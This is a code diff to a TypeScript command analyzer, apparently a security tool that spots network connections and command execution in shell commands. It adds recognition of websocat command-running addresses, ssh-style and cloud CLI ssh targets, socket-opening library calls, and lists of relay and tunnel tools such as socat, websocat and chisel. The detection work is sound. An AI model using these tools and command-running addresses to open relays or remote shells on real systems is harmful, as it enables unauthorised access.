@@ -1961,6 +2173,13 @@ export class CommandAnalyzer {
       }
       return;
     }
+    // websocat runs the command of a `sh-c:`/`cmd:`/`exec:` address
+    if (program === "websocat") {
+      for (const a of args) {
+        const m = /^(?:sh-c|cmd|exec):([\s\S]+)$/i.exec(a);
+        if (m) this.runString(m[1], inh);
+      }
+    }
     if (program === "socat") {
       for (const a of args) {
         const m = /^(?:tcp|tcp4|tcp6|tcp-connect|openssl|ssl|udp|udp4|udp6|openssl-connect|proxy:[^:]+)[:-]([^:,]+):(\d+)/i.exec(a);
@@ -1975,16 +2194,36 @@ export class CommandAnalyzer {
     // connection, on port 22 unless it says otherwise. Only for programs that connect (not `echo ssh://…`).
     if (!knownProgram(program) || progOf(program).can.includes("net")) {
       let seen = false;
-      for (const a of args) {
+      for (const a of [...args, ...this.sshVars]) {
         if (/^(?:ssh|sftp|scp):\/\/./i.test(a)) {
           const t = parseTarget(a, a.slice(0, a.indexOf(":")).toLowerCase());
           if (t) seen = !!this.net(program, t, inh);
           continue;
         }
+        // a transport over ssh (`qemu+ssh://`, `bzr+ssh://`, `git+ssh://`, `ssh+git://`): the ssh URL it is
+        const plus = /^(?:[a-z][\w.-]*\+)?(?:ssh|sftp)(?:\+[a-z][\w.-]*)?:\/\/(.+)$/i.exec(a);
+        if (plus) {
+          const t = parseTarget(`ssh://${plus[1]}`, "ssh");
+          if (t) seen = !!this.net(program, t, inh);
+          continue;
+        }
+        // `user@host:path` / `user@host::path` (rdiff-backup, mutagen, unison): scp-style, over ssh
+        const scpLike = /^[\w.-]+@([\w-]+(?:\.[\w-]+)+)::?(?!\/\/)/.exec(a);
+        if (scpLike && !/^(?:scp|rsync|sftp|psftp|pscp|git)$/.test(program)) seen = !!this.sshTarget(program, scpLike[1], -1, inh);
         const sftp = /^sftp:((?:[^@\s/:]+@)?[\w.-]+):/i.exec(a);
         if (sftp) seen = !!this.sshTarget(program, sftp[1], -1, inh);
         const rc = /^:sftp,(?:[^:]*,)?host=([^,:]+)(?:[^:]*,port=(\d+))?/i.exec(a);
         if (rc) seen = !!this.sshTarget(program, rc[1], rc[2] ? Number(rc[2]) : 22, inh);
+      }
+      // cloud CLIs' ssh into a machine by name (`gcloud compute ssh VM`, `az ssh vm -n VM`, `aws ec2-instance-connect ssh`)
+      if (
+        (program === "gcloud" && /^(?:ssh|scp)$/.test(pos[1]?.value ?? "") && /^(?:compute|alpha|beta)$/.test(pos[0]?.value ?? "")) ||
+        (program === "az" && pos[0]?.value === "ssh" && /^(?:vm|arc|host)$/.test(pos[1]?.value ?? "")) ||
+        (program === "aws" && pos[0]?.value === "ec2-instance-connect" && pos[1]?.value === "ssh")
+      ) {
+        const vm = pos[2]?.value ?? optValues(args, ["-n", "--name", "--vm-name", "--instance-id"])[0] ?? "vm";
+        const port = Number(optValues(args, ["--port"])[0] ?? 22) || 22;
+        seen = !!this.net(program, { url: `ssh://${vm.replace(/^.*@/, "")}:${port}`, host: vm.replace(/^.*@/, "").toLowerCase(), port }, inh);
       }
       if (/^ansible(?:-playbook|-pull)?$/.test(program))
         for (const inv of optValues(args, ["-i", "--inventory", "--inventory-file"]))
@@ -2003,8 +2242,10 @@ export class CommandAnalyzer {
         if (u) this.net(program, u, inh);
         else {
           const [hh, hp] = portOf(h, -2);
-          const port =
-            hp !== -2
+          const byOpt = Number(optValues(args, spec.port ?? [])[0] ?? Number.NaN);
+          const port = !Number.isNaN(byOpt)
+            ? byOpt
+            : hp !== -2
               ? hp
               : p !== undefined && /^\d+$/.test(p)
                 ? Number(p)
@@ -2103,7 +2344,7 @@ export class CommandAnalyzer {
 /** git settings whose value is a command git runs (on `status`, `log`, a fetch, an alias, a diff) */
 /** Library calls that open a socket; group 2 is the text of their arguments (host string, port number). */
 const SOCKET_CALL =
-  /(create_connection|\.connect|createConnection|HTTPS?Connection|Telnet|TCPSocket\.(?:new|open)|Socket\.tcp|Net::HTTP\.(?:new|start)|p?fsockopen|stream_socket_client|sockaddr_in|INET6?->new|Net::SSH\.start|Net::SFTP\.start|asyncssh\.connect|https?\.(?:get|request)|\(\s*["'](?:node:)?https?["']\s*\)\.(?:get|request)|tls\.connect)\s*\(([^;]{0,160}?)\)\s*(?=[;,)\n.]|$)/g;
+  /(create_connection|\.connect|createConnection|(?<![\w])(?:fabric\.)?Connection|HTTPS?Connection|Telnet|TCPSocket\.(?:new|open)|Socket\.tcp|Net::HTTP\.(?:new|start)|p?fsockopen|stream_socket_client|sockaddr_in|INET6?->new|Net::SSH\.start|Net::SFTP\.start|asyncssh\.connect|https?\.(?:get|request)|\(\s*["'](?:node:)?https?["']\s*\)\.(?:get|request)|tls\.connect)\s*\(([^;]{0,160}?)\)\s*(?=[;,)\n.]|$)/g;
 /** Inline code as its effects read plainly: adjacent string literals joined (`'ca' + 't'`, `"a" . "b"`), and the
  * home directory spelt inside a string (`"$ENV{HOME}/.bashrc"`, `f"{Path.home()}/x"`, `` `${os.homedir()}/x` ``) as `~`. */
 export function normaliseCode(code: string): string {
@@ -2137,6 +2378,8 @@ export function normaliseCode(code: string): string {
 
 const SSH_FAMILY = new Set([
   "ssh",
+  "dbclient",
+  "plink",
   "scp",
   "sftp",
   "psftp",
@@ -2178,7 +2421,7 @@ const GIT_COMMAND_KEY =
   /^(core\.(pager|editor|sshcommand|fsmonitor|askpass|gitproxy)|sequence\.editor|diff\.external|credential\.helper|gpg\.program|alias\..*|pager\..*|uploadpack\.packobjectshook|.*\.(command|textconv|process|clean|smudge|cmd))$/;
 
 /** programs whose listening the analysis reads itself (forward specs, relays) */
-const LISTENERS = new Set(["ssh", "autossh", "socat", "chisel", "httpd"]);
+const LISTENERS = new Set(["ssh", "autossh", "socat", "websocat", "chisel", "httpd"]);
 const LOCAL_SOCKET = /^(?:\/|localhost$|127\.0\.0\.1$)/;
 /** `-o Port=2222`, `-oPort=2222`, `-o "Port 2222"` or the port option: the port given, else -1. */
 function sshPort(args: string[], opt: string): number {
@@ -2300,6 +2543,15 @@ function pureOutput(c: SimpleCmd, input: string | undefined): string | undefined
     }
     case "cat":
       return pos.length ? undefined : input;
+    // path text: `dirname ~/.ssh/x` is `~/.ssh`, `basename /a/b.sh .sh` is `b`
+    case "dirname":
+      if (pos.length !== 1 || flags.length) return undefined;
+      return `${pos[0].includes("/") ? pos[0].replace(/\/*[^/]*\/*$/, "") || "/" : "."}\n`;
+    case "basename": {
+      if (!pos.length || pos.length > 2 || flags.length) return undefined;
+      const b = pos[0].replace(/\/+$/, "").replace(/^.*\//, "");
+      return `${pos[1] && b.endsWith(pos[1]) && b !== pos[1] ? b.slice(0, -pos[1].length) : b}\n`;
+    }
     case "rev":
       return input
         ?.split("\n")
